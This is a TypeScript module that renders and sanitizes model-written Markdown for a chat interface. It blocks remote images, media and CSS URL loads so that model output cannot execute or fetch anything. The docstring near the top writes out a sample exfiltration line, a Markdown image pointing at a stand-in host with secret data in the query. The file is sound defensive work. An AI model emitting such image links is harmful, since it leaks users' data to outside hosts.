/**
 * Markdown → safe HTML for text parts: markdown-it renders (raw HTML in the source is
 * escaped, not passed through), then DOMPurify sanitizes what comes out, so nothing a
 * model writes can execute. Links open in a new tab. `enhanceCodeBlocks` adds a copy
 * button to every code block (built with DOM calls, after sanitizing).
 *
 * Nothing a model writes makes the browser fetch anything by itself either (a remote image
 * `![x](https://host/leak?d=secret)` would otherwise report to `host` the moment it shows).
 * The sanitizer, not the markdown renderer, enforces this, so it holds for any HTML that
 * reaches it (markdown-it only ever emits `<img>` and table `style`s of the kinds below;
 * the rest is defence in depth should raw HTML ever be let through):
 *
 * - `<img>` (and `<image>`, which the HTML parser turns into `<img>`), `<input type=image>`,
 *   `<video>`, `<audio>`: replaced by a link to their URL (`a.think-media-link`, a 🖼/▶
 *   label with the alt text); the click is the user's. Inside another link: by its label.
 * - Inline images stay: an `<img>` whose `src` is a `data:image/(png|gif|jpeg|webp|avif|bmp)`
 *   URI carries its bytes and is decoded locally, with no request (these are the data
 *   images markdown-it lets through, plus avif/bmp). `data:image/svg+xml` does not stay:
 *   SVG is a document format that can reference other URLs.
 * - `src` is dropped everywhere else; `srcset`, `imagesrcset`, `poster`, `background`,
 *   `lowsrc`, `dynsrc`, `longdesc` and `ping` are dropped everywhere.
 * - `<picture>` is unwrapped (its `<img>` becomes a link), `<source>` and `<track>`
 *   dropped; `<link>`, `<style>` (with its text), `<meta>`, `<base>`, frames, `<object>`,
 *   `<embed>`, `<portal>` and `<fencedframe>` dropped.
 * - SVG and MathML are not allowed at all (`USE_PROFILES: {html: true}`), which removes
 *   `<svg><image>`, `<feImage>`, `<use>` and `fill="url(...)"`-style references.
 * - A `style` attribute stays only without `(` and `\`: no `(` means no CSS function, so
 *   no `url()`, `image-set()` or `src()` (and no escape can spell one). markdown-it's
 *   table alignment (`style="text-align:right"`) passes.
 */
import DOMPurify, { type Config } from "dompurify";
import MarkdownIt from "markdown-it";

const md = new MarkdownIt({ html: false, linkify: true, breaks: false });

/** Our own DOMPurify instance, so the hooks below touch no one else's sanitizing. */
const purify = DOMPurify();

/** Images that are their own bytes: decoded locally, never fetched. */
const INLINE_IMAGE = /^data:image\/(?:png|gif|jpeg|webp|avif|bmp)[;,]/i;

const CONFIG: Config = {
  USE_PROFILES: { html: true },
  ADD_ATTR: ["target"],
  FORBID_TAGS: [
    "picture", "source", "track", "link", "style", "meta", "base", "iframe", "frame", "frameset",
    "object", "embed", "portal", "fencedframe",
  ],
  FORBID_ATTR: ["srcset", "imagesrcset", "poster", "background", "lowsrc", "dynsrc", "longdesc", "ping"],
};

function isInlineImage(url: string): boolean {
  return INLINE_IMAGE.test(url.trim());
}

/** The URL a media element would load (its `src`, else its first `<source>`, `srcset` or poster). */
function mediaUrl(el: Element): string {
  const first = (srcset: string | null) => (srcset ?? "").trim().split(/[\s,]+/)[0] ?? "";
  return (
    el.getAttribute("src")?.trim() ||
    el.querySelector("source[src]")?.getAttribute("src")?.trim() ||
    first(el.getAttribute("srcset")) ||
    first(el.querySelector("source[srcset]")?.getAttribute("srcset") ?? null) ||
    el.getAttribute("poster")?.trim() ||
    ""
  );
}

/** Only http(s) links (relative ones resolve against the page, an http(s) origin). */
function isWebUrl(url: string): boolean {
  try {
    return /^https?:$/.test(new URL(url, document.baseURI).protocol);
  } catch {
    return false;
  }
}

/** Put a link to `el`'s URL in its place (or, inside a link, just its label). */
function replaceWithLink(el: Element, kind: "image" | "video" | "audio"): void {
  const doc = el.ownerDocument;
  const url = mediaUrl(el);
  const name = el.getAttribute("alt")?.trim() || el.getAttribute("title")?.trim() || url || kind;
  const label = `${kind === "image" ? "🖼" : "▶"} ${name}`;
  let replacement: Element | Text;
  if (el.parentElement?.closest("a") || !isWebUrl(url)) {
    replacement = doc.createTextNode(label);
  } else {
    const a = doc.createElement("a");
    a.setAttribute("href", url);
    a.setAttribute("title", `${kind}: ${url} (not loaded)`);
    a.setAttribute("class", "think-media-link");
    a.setAttribute("target", "_blank");
    a.setAttribute("rel", "noopener noreferrer");
    a.textContent = label;
    replacement = a;
  }
  el.replaceWith(replacement); // DOMPurify sees the node detached and moves on
}

purify.addHook("uponSanitizeElement", (node, data) => {
  if (node.nodeType !== 1) return;
  const el = node as Element;
  const tag = data.tagName;
  if (tag === "img" && !isInlineImage(el.getAttribute("src") ?? "")) replaceWithLink(el, "image");
  else if (tag === "input" && el.getAttribute("type")?.trim().toLowerCase() === "image") replaceWithLink(el, "image");
  else if (tag === "video" || tag === "audio") replaceWithLink(el, tag);
});

purify.addHook("uponSanitizeAttribute", (node, data) => {
  const name = data.attrName;
  if (name === "src") {
    data.keepAttr = node.nodeName === "IMG" && isInlineImage(data.attrValue);
  } else if (name === "style") {
    data.keepAttr = !/[(\\]/.test(data.attrValue);
  }
});

purify.addHook("afterSanitizeAttributes", (node) => {
  if (node.nodeName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

/** Sanitized HTML: nothing in it runs, and nothing in it loads by itself (see the module docstring). */
export function sanitizeHtml(html: string): string {
  return purify.sanitize(html, CONFIG) as string;
}

/** Sanitized HTML for `text` read as Markdown. */
export function renderMarkdown(text: string): string {
  return sanitizeHtml(md.render(text));
}

/** Copy `text` to the clipboard (Clipboard API, else a hidden textarea). */
async function copyText(text: string): Promise<void> {
  try {
    await navigator.clipboard.writeText(text);
  } catch {
    const area = document.createElement("textarea");
    area.value = text;
    document.body.append(area);
    area.select();
    document.execCommand("copy");
    area.remove();
  }
}

/** Give each `<pre><code>` in `root` a Copy button. */
export function enhanceCodeBlocks(root: HTMLElement): void {
  root.querySelectorAll("pre").forEach((pre) => {
    const code = pre.querySelector("code") ?? pre;
    const wrap = document.createElement("div");
    wrap.className = "think-code";
    const button = document.createElement("button");
    button.className = "think-code-copy";
    button.textContent = "Copy";
    button.title = "Copy code";
    button.addEventListener("click", () => {
      void copyText(code.textContent ?? "").then(() => {
        button.textContent = "Copied";
        setTimeout(() => (button.textContent = "Copy"), 1500);
      });
    });
    pre.replaceWith(wrap);
    wrap.append(button, pre);
  });
}

/**
 * Incremental rendering of a growing Markdown text (a reply being streamed): the finished
 * top-level blocks are rendered once, only the open tail block is rendered again per frame.
 *
 * A block is finished when another top-level block starts after it (markdown-it's own block
 * map of the not-yet-finished part of the text decides): later text cannot change it in
 * CommonMark, with one exception, link reference definitions (`[x]: url`), which reach back
 * to every earlier block: a text holding one is rendered whole. The result is the same DOM as
 * `renderMarkdown` + `enhanceCodeBlocks` of the whole text (tests: js/test/markdown-stream.test.ts).
 * The finished blocks' nodes are reused (moved into the caller's new element), so a frame
 * costs the tail, not the message.
 */
const REFERENCE_DEFINITION = /^ {0,3}\[[^\]]+\]:/m;

export class StreamingMarkdown {
  private source = "";
  private nodes: Node[] = [];
  private host?: HTMLElement;
  private tail: Node[] = [];
  private generation = 0;

  /**
   * Render `text` into `el` in place: the finished blocks' nodes stay where they are (no new
   * layout for them), the previous tail's nodes are replaced by the new finished blocks and tail.
   */
  renderInto(el: HTMLElement, text: string): void {
    const generation = this.generation;
    const kept = this.nodes.length;
    const nodes = this.render(text);
    if (this.host !== el || generation !== this.generation || kept > this.nodes.length) {
      el.replaceChildren(...nodes);
    } else {
      for (const node of this.tail) node.parentNode?.removeChild(node);
      el.append(...nodes.slice(kept));
    }
    this.host = el;
    this.tail = nodes.slice(this.nodes.length);
  }

  /** Nodes for `text` (the finished blocks' cached nodes, then the tail freshly rendered). */
  render(text: string): Node[] {
    if (REFERENCE_DEFINITION.test(text)) {
      this.reset(); // a definition reaches back to every block: render the whole text
      return fragment(text);
    }
    if (!text.startsWith(this.source)) this.reset();
    const rest = text.slice(this.source.length);
    const split = finishedLength(rest);
    if (split > 0) {
      this.nodes.push(...fragment(rest.slice(0, split)));
      this.source += rest.slice(0, split);
    }
    return [...this.nodes, ...fragment(text.slice(this.source.length))];
  }

  /** Characters of the text whose blocks are rendered once and kept. */
  get finished(): number {
    return this.source.length;
  }

  reset(): void {
    this.source = "";
    this.nodes = [];
    this.generation += 1;
  }
}

/** Length of the prefix of `text` made of finished top-level blocks (ending at a line start). */
function finishedLength(text: string): number {
  if (!text.includes("\n")) return 0;
  const starts = md.parse(text, {}).filter((t) => t.level === 0 && t.nesting !== -1 && t.map).map((t) => (t.map as [number, number])[0]);
  const lastStart = starts.length > 1 ? starts[starts.length - 1] : 0;
  if (!lastStart) return 0;
  let at = 0;
  for (let line = 0; line < lastStart; line++) at = text.indexOf("\n", at) + 1;
  return at;
}

/** Sanitized, enhanced DOM nodes for a Markdown text rendered on its own. */
function fragment(text: string): Node[] {
  if (!text) return [];
  const holder = document.createElement("div");
  holder.innerHTML = renderMarkdown(text);
  enhanceCodeBlocks(holder);
  return Array.from(holder.childNodes);
}
